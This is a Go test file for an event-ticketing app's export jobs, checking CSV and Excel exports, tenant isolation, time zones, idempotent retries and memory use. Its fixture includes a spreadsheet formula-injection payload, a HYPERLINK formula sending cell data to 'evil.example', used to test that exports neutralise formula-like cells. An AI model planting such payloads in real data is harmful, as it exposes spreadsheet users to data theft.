package jobs_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"flag"
	"fmt"
	"io"
	"io/fs"
	"log/slog"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
	"golang.org/x/crypto/bcrypt"

	"github.com/admithq/admit/internal/admit"
	"github.com/admithq/admit/internal/jobs"
	"github.com/admithq/admit/internal/mysql"
	"github.com/admithq/admit/internal/mysqltest"
	"github.com/admithq/admit/internal/s3/s3test"
)

var updateGolden = flag.Bool("update", false, "rewrite the golden files under testdata")

// exportData is a small event with fixed values, so that its exports are
// deterministic: three orders with answers, formula-like input and quotes,
// check-ins, and rows of another event and another organization that must
// not appear.
type exportData struct {
	db      *mysql.DB
	orgID   int64
	ownerID int64
	eventID int64
	other   int64 // another event of the organization
	rivalID int64 // another organization
}

func mustExec(tb testing.TB, db *mysql.DB, query string, args ...any) int64 {
	tb.Helper()
	res, err := db.SQL().Exec(query, args...)
	if err != nil {
		tb.Fatalf("%s: %v", strings.Fields(query)[0:3], err)
	}
	id, _ := res.LastInsertId()
	return id
}

func mustOrganization(tb testing.TB, db *mysql.DB, slug, owner string) (orgID, userID int64) {
	tb.Helper()
	hash, _ := bcrypt.GenerateFromPassword([]byte("correct horse battery"), bcrypt.MinCost)
	org := &admit.Organization{Slug: slug, Name: strings.ToUpper(slug)}
	u := &admit.User{Email: slug + "@example.com", Name: owner, PasswordHash: string(hash)}
	if err := db.SignUp(context.Background(), org, u); err != nil {
		tb.Fatal(err)
	}
	return org.ID, u.ID
}

func mustEvent(tb testing.TB, db *mysql.DB, orgID int64, slug, zone string) (eventID, gaID, vipID int64) {
	tb.Helper()
	ctx := context.Background()
	ev := &admit.Event{OrganizationID: orgID, Slug: slug, Name: "Gopher " + slug, TimeZone: zone,
		StartsAt: time.Date(2026, 4, 10, 8, 0, 0, 0, time.UTC), Currency: "EUR", Status: admit.EventPublished, HoldMinutes: 10}
	if err := db.CreateEvent(ctx, ev); err != nil {
		tb.Fatal(err)
	}
	ga := &admit.TicketType{OrganizationID: orgID, EventID: ev.ID, Name: "GA", Price: 5000, Quantity: 1000000, MinPerOrder: 1, MaxPerOrder: 10}
	vip := &admit.TicketType{OrganizationID: orgID, EventID: ev.ID, Name: "VIP", Price: 12000, Quantity: 100, MinPerOrder: 1, MaxPerOrder: 10}
	for _, tt := range []*admit.TicketType{ga, vip} {
		if err := db.CreateTicketType(ctx, tt); err != nil {
			tb.Fatal(err)
		}
	}
	return ev.ID, ga.ID, vip.ID
}

func mustExportData(tb testing.TB) *exportData {
	tb.Helper()
	ctx := context.Background()
	d := &exportData{db: mysqltest.MustOpen(tb)}
	db := d.db
	d.orgID, d.ownerID = mustOrganization(tb, db, "acme", "Olga Owner")
	var ga, vip int64
	d.eventID, ga, vip = mustEvent(tb, db, d.orgID, "summit", "Europe/Berlin")
	shirt := &admit.Question{OrganizationID: d.orgID, EventID: d.eventID, Label: "T-shirt size", Kind: admit.QuestionChoice, Options: []string{"S", "M", "L"}}
	diet := &admit.Question{OrganizationID: d.orgID, EventID: d.eventID, Label: "Dietary needs", Kind: admit.QuestionText}
	for _, q := range []*admit.Question{shirt, diet} {
		if err := db.CreateQuestion(ctx, q); err != nil {
			tb.Fatal(err)
		}
	}
	early := mustExec(tb, db, `INSERT INTO discount_codes (organization_id, event_id, code, kind, value, used) VALUES (?, ?, 'EARLY', 'percent', 1000, 1)`,
		d.orgID, d.eventID)

	order := func(eventID int64, ref, status, buyer, email string, total, discount, refunded int64, code any, provider, payRef, created string, paid any) int64 {
		return mustExec(tb, db, `INSERT INTO orders (organization_id, event_id, reference, access_token, status, buyer_name, buyer_email,
			total, discount_total, refunded_total, discount_code_id, currency, payment_provider, payment_ref, created_at, paid_at)
			VALUES (?, ?, ?, 'token', ?, ?, ?, ?, ?, ?, ?, 'EUR', ?, ?, ?, ?)`,
			d.orgID, eventID, ref, status, buyer, email, total, discount, refunded, code, provider, payRef, created, paid)
	}
	line := func(orderID, typeID int64, qty int, price int64) {
		mustExec(tb, db, `INSERT INTO order_lines (order_id, ticket_type_id, quantity, unit_price) VALUES (?, ?, ?, ?)`, orderID, typeID, qty, price)
	}
	ticket := func(orgID, orderID, typeID int64, code, name, email, status string) int64 {
		return mustExec(tb, db, `INSERT INTO tickets (organization_id, order_id, ticket_type_id, code, attendee_name, attendee_email, status)
			VALUES (?, ?, ?, ?, ?, ?, ?)`, orgID, orderID, typeID, code, name, email, status)
	}
	answer := func(orgID, ticketID, questionID int64, value string) {
		mustExec(tb, db, `INSERT INTO answers (ticket_id, question_id, organization_id, value) VALUES (?, ?, ?, ?)`, ticketID, questionID, orgID, value)
	}

	o1 := order(d.eventID, "ALPHA001", "paid", "Ada Lovelace", "ada@example.com", 10000, 0, 0, nil, "stripe", "pi_123", "2026-03-01 09:00:00", "2026-03-01 09:01:30")
	line(o1, ga, 2, 5000)
	t1 := ticket(d.orgID, o1, ga, "CODEAAAA0001", "Ada Lovelace", "ada@example.com", "valid")
	t2 := ticket(d.orgID, o1, ga, "CODEAAAA0002", `=HYPERLINK("https://evil.example/?x="&B2,"Click me")`, "", "valid")
	answer(d.orgID, t1, shirt.ID, "M")
	answer(d.orgID, t1, diet.ID, "No nuts\nNo gluten, please")
	answer(d.orgID, t2, shirt.ID, "L")

	o2 := order(d.eventID, "BRAVO002", "pending", `Bob "The Builder", Jr.`, "bob@example.com", 12000, 0, 0, nil, "offline", "", "2026-03-02 18:30:00", nil)
	line(o2, vip, 1, 12000)
	t3 := ticket(d.orgID, o2, vip, "CODEBBBB0003", "@bob", "bob@example.com", "pending")
	answer(d.orgID, t3, diet.ID, "-")

	o3 := order(d.eventID, "CHARLIE3", "refunded", "Zoë Ünicode", "zoe@example.com", 9000, 1000, 9000, early, "stripe", "pi_456", "2026-03-03 07:05:09", "2026-03-03 07:06:00")
	line(o3, ga, 2, 4500)
	t4 := ticket(d.orgID, o3, ga, "CODECCCC0004", "Zoë Ünicode", "zoe@example.com", "void")
	ticket(d.orgID, o3, ga, "CODECCCC0005", "\tTabbed", "", "void")
	answer(d.orgID, t4, diet.ID, "+1 guest")

	list := mustExec(tb, db, `INSERT INTO checkin_lists (organization_id, event_id, name) VALUES (?, ?, 'Main door')`, d.orgID, d.eventID)
	checkIn := func(ticketID int64, by any, at string, undone any) {
		mustExec(tb, db, `INSERT INTO checkins (organization_id, list_id, ticket_id, checked_in_by, created_at, undone_at) VALUES (?, ?, ?, ?, ?, ?)`,
			d.orgID, list, ticketID, by, at, undone)
	}
	checkIn(t1, d.ownerID, "2026-04-10 08:00:00", nil)
	checkIn(t2, d.ownerID, "2026-04-10 08:05:00", "2026-04-10 08:06:00")
	checkIn(t2, nil, "2026-04-10 08:07:00", nil)

	// Rows that the export of the event must leave out.
	d.other, _, _ = mustEvent(tb, db, d.orgID, "other", "UTC")
	o4 := order(d.other, "DELTA004", "paid", "Other Event", "other@example.com", 5000, 0, 0, nil, "stripe", "", "2026-03-04 10:00:00", "2026-03-04 10:00:00")
	ticket(d.orgID, o4, ga, "CODEDDDD0006", "Other Event", "", "valid")
	d.rivalID, _ = mustOrganization(tb, db, "rival", "Rita Rival")
	return d
}

// expectedExports are the tables the fixture's exports must hold.
var expectedExports = map[string][][]string{
	admit.ExportOrders: {
		{"Order", "Status", "Buyer name", "Buyer email", "Tickets", "Items", "Total", "Discount", "Discount code", "Refunded", "Currency",
			"Payment method", "Payment reference", "Placed at (Europe/Berlin)", "Paid at (Europe/Berlin)"},
		{"ALPHA001", "paid", "Ada Lovelace", "ada@example.com", "2", "2 × GA", "100.00", "0.00", "", "0.00", "EUR", "stripe", "pi_123",
			"2026-03-01 10:00:00", "2026-03-01 10:01:30"},
		{"BRAVO002", "pending", `Bob "The Builder", Jr.`, "bob@example.com", "1", "1 × VIP", "120.00", "0.00", "", "0.00", "EUR", "offline", "",
			"2026-03-02 19:30:00", ""},
		{"CHARLIE3", "refunded", "Zoë Ünicode", "zoe@example.com", "2", "2 × GA", "90.00", "10.00", "EARLY", "90.00", "EUR", "stripe", "pi_456",
			"2026-03-03 08:05:09", "2026-03-03 08:06:00"},
	},
	admit.ExportAttendees: {
		{"Ticket code", "Ticket type", "Attendee name", "Attendee email", "Ticket status", "Order", "Order status", "Buyer name", "Buyer email",
			"Checked in at (Europe/Berlin)", "T-shirt size", "Dietary needs"},
		{"CODEAAAA0001", "GA", "Ada Lovelace", "ada@example.com", "valid", "ALPHA001", "paid", "Ada Lovelace", "ada@example.com",
			"2026-04-10 10:00:00", "M", "No nuts\nNo gluten, please"},
		{"CODEAAAA0002", "GA", `'=HYPERLINK("https://evil.example/?x="&B2,"Click me")`, "", "valid", "ALPHA001", "paid", "Ada Lovelace", "ada@example.com",
			"2026-04-10 10:07:00", "L", ""},
		{"CODEBBBB0003", "VIP", "'@bob", "bob@example.com", "pending", "BRAVO002", "pending", `Bob "The Builder", Jr.`, "bob@example.com",
			"", "", "'-"},
		{"CODECCCC0004", "GA", "Zoë Ünicode", "zoe@example.com", "void", "CHARLIE3", "refunded", "Zoë Ünicode", "zoe@example.com",
			"", "", "'+1 guest"},
		{"CODECCCC0005", "GA", "'\tTabbed", "", "void", "CHARLIE3", "refunded", "Zoë Ünicode", "zoe@example.com", "", "", ""},
	},
	admit.ExportCheckIns: {
		{"Checked in at (Europe/Berlin)", "List", "Ticket code", "Ticket type", "Attendee name", "Order", "Checked in by", "Undone at (Europe/Berlin)"},
		{"2026-04-10 10:00:00", "Main door", "CODEAAAA0001", "GA", "Ada Lovelace", "ALPHA001", "Olga Owner", ""},
		{"2026-04-10 10:05:00", "Main door", "CODEAAAA0002", "GA", `'=HYPERLINK("https://evil.example/?x="&B2,"Click me")`, "ALPHA001", "Olga Owner",
			"2026-04-10 10:06:00"},
		{"2026-04-10 10:07:00", "Main door", "CODEAAAA0002", "GA", `'=HYPERLINK("https://evil.example/?x="&B2,"Click me")`, "ALPHA001", "", ""},
	},
}

func discardLogger() *slog.Logger { return slog.New(slog.NewTextHandler(io.Discard, nil)) }

// mustRequestExport records an export request as the console does.
func mustRequestExport(tb testing.TB, d *exportData, eventID int64, kind, format string) *admit.Export {
	tb.Helper()
	ex := &admit.Export{OrganizationID: d.orgID, EventID: eventID, Kind: kind, Format: format, RequestedBy: d.ownerID}
	if _, err := d.db.CreateExport(context.Background(), ex); err != nil {
		tb.Fatal(err)
	}
	return ex
}

func mustFindExport(tb testing.TB, d *exportData, id int64) *admit.Export {
	tb.Helper()
	ex, err := d.db.FindExport(context.Background(), d.orgID, id)
	if err != nil {
		tb.Fatal(err)
	}
	return ex
}

// readTable parses an export file into its rows of text, as a spreadsheet
// shows them.
func readTable(tb testing.TB, format string, data []byte) [][]string {
	tb.Helper()
	if format == admit.ExportCSV {
		body, ok := bytes.CutPrefix(data, []byte("\uFEFF"))
		if !ok {
			tb.Error("the CSV file does not start with a byte order mark")
		}
		records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		if err != nil {
			tb.Fatal(err)
		}
		return records
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		tb.Fatal(err)
	}
	defer f.Close()
	sheets := f.GetSheetList()
	if len(sheets) != 1 {
		tb.Fatalf("workbook has sheets %v, want one", sheets)
	}
	rows, err := f.GetRows(sheets[0])
	if err != nil {
		tb.Fatal(err)
	}
	// GetRows leaves out trailing empty cells; the header says how many
	// there are.
	for i := range rows {
		for len(rows[i]) < len(rows[0]) {
			rows[i] = append(rows[i], "")
		}
	}
	return rows
}

// TestExportContents: each kind of export, in CSV and in Excel, holds
// exactly the event's rows (not another event's, not another
// organization's), with answers, in the event's time zone, and with
// formula-like cells neutralised. The CSV files are also compared byte for
// byte with golden files (go test -run TestExportContents -update rewrites
// them).
func TestExportContents(t *testing.T) {
	d := mustExportData(t)
	files := mustExportStorage(t)
	exporter := &jobs.Exporter{Store: d.db, Storage: files, Logger: discardLogger(), TempDir: t.TempDir(), BatchSize: 2}
	for _, kind := range []string{admit.ExportOrders, admit.ExportAttendees, admit.ExportCheckIns} {
		for _, format := range []string{admit.ExportCSV, admit.ExportXLSX} {
			t.Run(kind+"."+format, func(t *testing.T) {
				ex := mustRequestExport(t, d, d.eventID, kind, format)
				if _, err := exporter.Build(context.Background(), d.orgID, ex.ID); err != nil {
					t.Fatal(err)
				}
				ex = mustFindExport(t, d, ex.ID)
				want := expectedExports[kind]
				if ex.Status != admit.ExportDone || ex.Rows != len(want)-1 {
					t.Fatalf("export is %s with %d rows, want done with %d", ex.Status, ex.Rows, len(want)-1)
				}
				data := mustReadExport(t, files, ex.FileKey)
				if int64(len(data)) != ex.Size {
					t.Errorf("recorded size %d, file has %d bytes", ex.Size, len(data))
				}
				if !strings.HasPrefix(ex.FileName, "summit-"+kind+"-") || !strings.HasSuffix(ex.FileName, "."+format) {
					t.Errorf("file name %q", ex.FileName)
				}
				if diff := cmp.Diff(want, readTable(t, format, data)); diff != "" {
					t.Errorf("contents (-want +got):\n%s", diff)
				}
				if format == admit.ExportXLSX && kind == admit.ExportOrders {
					mustTypedCells(t, data)
				}
				if format == admit.ExportCSV {
					golden := filepath.Join("testdata", "export_"+kind+".csv")
					if *updateGolden {
						if err := os.WriteFile(golden, data, 0o644); err != nil {
							t.Fatal(err)
						}
					}
					wantBytes, err := os.ReadFile(golden)
					if err != nil {
						t.Fatal(err)
					}
					if !bytes.Equal(wantBytes, data) {
						t.Errorf("CSV differs from %s (run with -update if the change is intended):\n%s", golden, cmp.Diff(string(wantBytes), string(data)))
					}
				}
			})
		}
	}
}

// mustTypedCells checks that amounts and times in the Excel orders export
// are numbers a spreadsheet can add up and sort, not text.
func mustTypedCells(tb testing.TB, data []byte) {
	tb.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data), excelize.Options{RawCellValue: true})
	if err != nil {
		tb.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetList()[0]
	raw := func(cell string) string {
		v, err := f.GetCellValue(sheet, cell)
		if err != nil {
			tb.Fatal(err)
		}
		return v
	}
	if v := raw("G2"); v != "100" {
		tb.Errorf("total cell G2 holds %q, want the number 100", v)
	}
	serial, err := strconv.ParseFloat(raw("N2"), 64)
	if err != nil {
		tb.Fatalf("time cell N2 holds %q, not a date serial number", raw("N2"))
	}
	if at, _ := excelize.ExcelDateToTime(serial, false); at.Round(time.Second) != time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC) {
		tb.Errorf("time cell N2 is %v, want 2026-03-01 10:00:00", at)
	}
}

// TestExportNeutralize: every cell a spreadsheet would take for a formula
// gets a leading quote, and nothing else changes.
func TestExportNeutralize(t *testing.T) {
	for _, tt := range []struct{ name, in, want string }{
		{"formula", "=1+1", "'=1+1"},
		{"plus", "+49 30 1234", "'+49 30 1234"},
		{"minus", "-2", "'-2"},
		{"at", "@SUM(A1)", "'@SUM(A1)"},
		{"tab", "\t=1", "'\t=1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"plain", "Ada", "Ada"},
		{"inner equals", "a=b", "a=b"},
		{"empty", "", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := jobs.Neutralize(tt.in); got != tt.want {
				t.Errorf("Neutralize(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// failingStorage refuses every file.
type failingStorage struct{ jobs.ExportStorage }

func (failingStorage) Put(context.Context, string, *os.File) error { return errors.New("disk full") }

// TestExportIdempotent: the export is built through the outbox; performing
// it twice (or building it again) stores one file once; a double request
// is one export; a failed build is retried to completion; a builder that a
// newer attempt took over cannot write any more.
func TestExportIdempotent(t *testing.T) {
	ctx := context.Background()
	d := mustExportData(t)
	files := mustExportStorage(t)
	storage := &countingStorage{ExportStorage: files}
	exporter := &jobs.Exporter{Store: d.db, Storage: storage, Logger: discardLogger()}
	outbox := &jobs.Outbox{Store: d.db, Exports: exporter, Logger: discardLogger()}

	ex := mustRequestExport(t, d, d.eventID, admit.ExportAttendees, admit.ExportCSV)
	again := &admit.Export{OrganizationID: d.orgID, EventID: d.eventID, Kind: admit.ExportAttendees, Format: admit.ExportCSV}
	if existing, err := d.db.CreateExport(ctx, again); err != nil || !existing || again.ID != ex.ID {
		t.Fatalf("second request while queued: existing %v, id %d (first %d), err %v", existing, again.ID, ex.ID, err)
	}
	var outboxIDs []int64
	rows, err := d.db.SQL().Query(`SELECT id FROM outbox WHERE kind = 'export.build' AND organization_id = ? AND payload = ?`,
		d.orgID, fmt.Sprintf(`{"export_id":%d}`, ex.ID))
	if err != nil {
		t.Fatal(err)
	}
	for rows.Next() {
		var id int64
		rows.Scan(&id)
		outboxIDs = append(outboxIDs, id)
	}
	rows.Close()
	if len(outboxIDs) != 1 {
		t.Fatalf("%d outbox rows for the export, want 1", len(outboxIDs))
	}

	if err := outbox.Perform(ctx, outboxIDs[0]); err != nil {
		t.Fatal(err)
	}
	first := mustFindExport(t, d, ex.ID)
	before := mustReadExport(t, files, first.FileKey)
	// A duplicate delivery of the task, and a direct second build.
	if err := outbox.Perform(ctx, outboxIDs[0]); err != nil {
		t.Fatal(err)
	}
	if result, err := exporter.Build(ctx, d.orgID, ex.ID); err != nil || !strings.Contains(result, "already built") {
		t.Errorf("second build: %q, %v", result, err)
	}
	if after := mustReadExport(t, files, first.FileKey); !bytes.Equal(after, before) {
		t.Error("a second build changed the file")
	}
	if got := mustFindExport(t, d, ex.ID); got.Attempt != 1 || got.Status != admit.ExportDone {
		t.Errorf("after duplicates: %s, attempt %d; want done, attempt 1", got.Status, got.Attempt)
	}
	if puts := storage.puts.Load(); puts != 1 {
		t.Errorf("%d files stored, want 1", puts)
	}
	if objs, err := files.Store.List(ctx, files.Prefix); err != nil || len(objs) != 1 {
		t.Errorf("%d objects under the exports' prefix (%v), want 1", len(objs), err)
	}
	if result := mustOutboxResult(t, d, outboxIDs[0]); !strings.Contains(result, "5 rows") {
		t.Errorf("outbox result %q", result)
	}

	// Another organization's id for the export finds nothing.
	if result, err := exporter.Build(ctx, d.rivalID, ex.ID); err != nil || result != "export not found" {
		t.Errorf("build under another organization: %q, %v", result, err)
	}

	// A failure is recorded, and the retry completes it.
	failed := mustRequestExport(t, d, d.eventID, admit.ExportOrders, admit.ExportXLSX)
	broken := &jobs.Exporter{Store: d.db, Storage: failingStorage{storage}, Logger: discardLogger()}
	if _, err := broken.Build(ctx, d.orgID, failed.ID); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Fatalf("build with a full disk: %v", err)
	}
	if got := mustFindExport(t, d, failed.ID); got.Status != admit.ExportFailed || !strings.Contains(got.Error, "disk full") {
		t.Fatalf("after a failure: %s %q", got.Status, got.Error)
	}
	if _, err := exporter.Build(ctx, d.orgID, failed.ID); err != nil {
		t.Fatal(err)
	}
	if got := mustFindExport(t, d, failed.ID); got.Status != admit.ExportDone || got.Attempt != 2 || got.Rows != 3 || got.Error != "" {
		t.Errorf("after the retry: %s, attempt %d, %d rows, error %q", got.Status, got.Attempt, got.Rows, got.Error)
	}

	// A running export with a live heartbeat is left to its builder; once
	// the heartbeat stops, a new attempt takes over and the old one can no
	// longer write.
	running := mustRequestExport(t, d, d.eventID, admit.ExportCheckIns, admit.ExportCSV)
	stale, claimed, err := d.db.ClaimExport(ctx, d.orgID, running.ID, time.Minute)
	if err != nil || !claimed {
		t.Fatalf("first claim: %v %v", claimed, err)
	}
	if _, err := exporter.Build(ctx, d.orgID, running.ID); err == nil {
		t.Error("a build took over an export whose builder is alive")
	}
	mustExec(t, d.db, `UPDATE exports SET updated_at = NOW(6) - INTERVAL 10 MINUTE WHERE id = ?`, running.ID)
	if _, err := exporter.Build(ctx, d.orgID, running.ID); err != nil {
		t.Fatalf("taking over a dead builder's export: %v", err)
	}
	if err := d.db.ExportProgress(ctx, d.orgID, running.ID, stale.Attempt, 1); admit.ErrorCode(err) != admit.ECONFLICT {
		t.Errorf("progress of the superseded attempt: %v, want a conflict", err)
	}
	if done, err := d.db.CompleteExport(ctx, d.orgID, running.ID, stale.Attempt, admit.ExportFile{Key: "x"}, time.Hour); err != nil || done {
		t.Errorf("completion by the superseded attempt: %v, %v", done, err)
	}
	if got := mustFindExport(t, d, running.ID); got.Status != admit.ExportDone || got.Rows != 3 || got.FileKey == "x" {
		t.Errorf("taken-over export: %s, %d rows, key %q", got.Status, got.Rows, got.FileKey)
	}
}

func mustOutboxResult(tb testing.TB, d *exportData, id int64) string {
	tb.Helper()
	var result string
	if err := d.db.SQL().QueryRow(`SELECT result FROM outbox WHERE id = ? AND done_at IS NOT NULL`, id).Scan(&result); err != nil {
		tb.Fatal(err)
	}
	return result
}

// TestExportS3Storage: files are stored whole under their key, whatever
// the caller's offset, and replaced; a missing one is fs.ErrNotExist.
func TestExportS3Storage(t *testing.T) {
	ctx := context.Background()
	s := mustExportStorage(t)
	put := func(key, content string) error {
		f, err := os.CreateTemp(t.TempDir(), "src")
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		f.WriteString(content) // the offset is now at the end
		return s.Put(ctx, key, f)
	}
	for _, content := range []string{"first version", "second"} {
		if err := put("7/12-orders.csv", content); err != nil {
			t.Fatal(err)
		}
		if got := mustReadExport(t, s, "7/12-orders.csv"); string(got) != content {
			t.Errorf("stored %q, want %q", got, content)
		}
	}
	if _, err := s.Open(ctx, "7/missing.csv"); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("opening a missing file: %v", err)
	}
}

// mustExportStorage stores exports in the local S3 server, under a prefix
// of the test's own.
func mustExportStorage(tb testing.TB) *jobs.S3Storage {
	tb.Helper()
	st, prefix := s3test.MustStore(tb)
	return &jobs.S3Storage{Store: st, Prefix: prefix + jobs.ExportPrefix}
}

func mustReadExport(tb testing.TB, s jobs.ExportStorage, key string) []byte {
	tb.Helper()
	r, err := s.Open(context.Background(), key)
	if err != nil {
		tb.Fatal(err)
	}
	defer r.Close()
	data, err := io.ReadAll(r)
	if err != nil {
		tb.Fatal(err)
	}
	return data
}

// countingStorage counts the files stored through it.
type countingStorage struct {
	jobs.ExportStorage
	puts atomic.Int64
}

func (c *countingStorage) Put(ctx context.Context, key string, file *os.File) error {
	c.puts.Add(1)
	return c.ExportStorage.Put(ctx, key, file)
}

// TestExportLarge builds exports of an event with 100,000 orders and checks
// the row count, a sample of rows against the database, and that memory
// stays bounded while rows stream through; it logs the time and the peak
// memory of each build. It takes about 20 s, and 90 s under the race
// detector, so it runs only when asked:
//
//	ADMIT_TEST_LARGE_EXPORT=1 go test -run TestExportLarge -v ./internal/jobs
func TestExportLarge(t *testing.T) {
	if os.Getenv("ADMIT_TEST_LARGE_EXPORT") != "1" {
		t.Skip("set ADMIT_TEST_LARGE_EXPORT=1 to build exports of 100,000 orders")
	}
	const orders = 100_000
	ctx := context.Background()
	db := mysqltest.MustOpen(t)
	orgID, ownerID := mustOrganization(t, db, "large", "Lara Large")
	eventID, ga, _ := mustEvent(t, db, orgID, "large", "UTC")
	start := time.Now()
	for first := 0; first < orders; first += 1000 {
		var sb strings.Builder
		args := make([]any, 0, 1000*6)
		sb.WriteString(`INSERT INTO orders (organization_id, event_id, reference, access_token, status, buyer_name, buyer_email,
			total, currency, payment_provider, created_at, paid_at) VALUES `)
		for i := first; i < first+1000; i++ {
			if i > first {
				sb.WriteString(", ")
			}
			sb.WriteString("(?, ?, ?, 'token', 'paid', ?, ?, 5000, 'EUR', 'stripe', ?, ?)")
			at := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Second)
			args = append(args, orgID, eventID, fmt.Sprintf("L%07d", i), fmt.Sprintf("Buyer %d", i), fmt.Sprintf("buyer%d@example.com", i), at, at)
		}
		mustExec(t, db, sb.String(), args...)
	}
	mustExec(t, db, `INSERT INTO order_lines (order_id, ticket_type_id, quantity, unit_price) SELECT id, ?, 1, 5000 FROM orders WHERE event_id = ?`, ga, eventID)
	t.Logf("inserted %d orders in %v", orders, time.Since(start).Round(time.Millisecond))

	files := mustExportStorage(t)
	exporter := &jobs.Exporter{Store: db, Storage: files, Logger: discardLogger(), TempDir: t.TempDir()}
	d := &exportData{db: db, orgID: orgID, ownerID: ownerID}
	for _, format := range []string{admit.ExportCSV, admit.ExportXLSX} {
		t.Run(format, func(t *testing.T) {
			ex := mustRequestExport(t, d, eventID, admit.ExportOrders, format)
			runtime.GC()
			var base runtime.MemStats
			runtime.ReadMemStats(&base)
			var rusageBefore syscall.Rusage
			syscall.Getrusage(syscall.RUSAGE_SELF, &rusageBefore)
			stop := make(chan struct{})
			peak := make(chan runtime.MemStats)
			go func() {
				var m, max runtime.MemStats
				tick := time.NewTicker(5 * time.Millisecond)
				defer tick.Stop()
				for {
					runtime.ReadMemStats(&m)
					if m.HeapInuse > max.HeapInuse {
						max.HeapInuse = m.HeapInuse
					}
					if m.Sys > max.Sys {
						max.Sys = m.Sys
					}
					select {
					case <-stop:
						peak <- max
						return
					case <-tick.C:
					}
				}
			}()
			began := time.Now()
			_, err := exporter.Build(ctx, orgID, ex.ID)
			took := time.Since(began)
			close(stop)
			max := <-peak
			if err != nil {
				t.Fatal(err)
			}
			var rusageAfter syscall.Rusage
			syscall.Getrusage(syscall.RUSAGE_SELF, &rusageAfter)
			ex = mustFindExport(t, d, ex.ID)
			heap := int64(max.HeapInuse) - int64(base.HeapInuse)
			t.Logf("%s export of %d orders: %v, %.1f MB file; peak heap in use %.1f MB above the %.1f MB before (process memory from the runtime %.1f MB; max RSS %.1f MB, was %.1f MB)",
				format, ex.Rows, took.Round(time.Millisecond), mb(ex.Size), mb(heap), mb(int64(base.HeapInuse)), mb(int64(max.Sys)),
				float64(rusageAfter.Maxrss)/1024, float64(rusageBefore.Maxrss)/1024)
			if ex.Status != admit.ExportDone || ex.Rows != orders {
				t.Fatalf("export %s with %d rows, want done with %d", ex.Status, ex.Rows, orders)
			}
			// Rows stream through: the heap holds one batch (and, for Excel,
			// the stream writer's buffer, which spills to a file past 16 MB
			// and may double before the garbage collector catches up), not
			// the whole export, whatever its size.
			limit := int64(32 << 20)
			if format == admit.ExportXLSX {
				limit = 96 << 20
			}
			if heap > limit {
				t.Errorf("the heap grew by %.1f MB during the build, want under %.0f MB", mb(heap), mb(limit))
			}
			rows := mustReadLargeExport(t, format, mustReadExport(t, files, ex.FileKey))
			if len(rows) != orders+1 {
				t.Fatalf("file has %d rows, want %d and a header", len(rows), orders+1)
			}
			for _, i := range []int{0, 1, 999, 1000, 1001, 54321, orders - 1} {
				var ref, name, email string
				var total int64
				var created time.Time
				if err := db.SQL().QueryRow(`SELECT reference, buyer_name, buyer_email, total, created_at FROM orders
					WHERE event_id = ? ORDER BY id LIMIT 1 OFFSET ?`, eventID, i).Scan(&ref, &name, &email, &total, &created); err != nil {
					t.Fatal(err)
				}
				want := []string{ref, "paid", name, email, "1", "1 × GA", fmt.Sprintf("%d.%02d", total/100, total%100)}
				if diff := cmp.Diff(want, rows[i+1][:len(want)]); diff != "" {
					t.Errorf("row %d (-database +file):\n%s", i, diff)
				}
				if got, want := rows[i+1][13], created.Format("2006-01-02 15:04:05"); got != want {
					t.Errorf("row %d placed at %s, want %s", i, got, want)
				}
			}
		})
	}
}

func mb(n int64) float64 { return float64(n) / (1 << 20) }

func mustReadLargeExport(tb testing.TB, format string, data []byte) [][]string {
	tb.Helper()
	if format == admit.ExportCSV {
		return readTable(tb, format, data)
	}
	// Raw values: formatting 1.5 million cells would take most of a minute.
	f, err := excelize.OpenReader(bytes.NewReader(data), excelize.Options{RawCellValue: true})
	if err != nil {
		tb.Fatal(err)
	}
	defer f.Close()
	it, err := f.Rows(f.GetSheetList()[0])
	if err != nil {
		tb.Fatal(err)
	}
	defer it.Close()
	var rows [][]string
	for it.Next() {
		cols, err := it.Columns(excelize.Options{RawCellValue: true})
		if err != nil {
			tb.Fatal(err)
		}
		if len(rows) > 0 {
			// As a spreadsheet shows them: money with two decimals, dates
			// from their serial numbers.
			if total, err := strconv.ParseFloat(cols[6], 64); err == nil {
				cols[6] = strconv.FormatFloat(total, 'f', 2, 64)
			}
			if serial, err := strconv.ParseFloat(cols[13], 64); err == nil {
				at, err := excelize.ExcelDateToTime(serial, false)
				if err != nil {
					tb.Fatal(err)
				}
				cols[13] = at.Round(time.Second).Format("2006-01-02 15:04:05")
			}
		}
		rows = append(rows, cols)
	}
	return rows
}
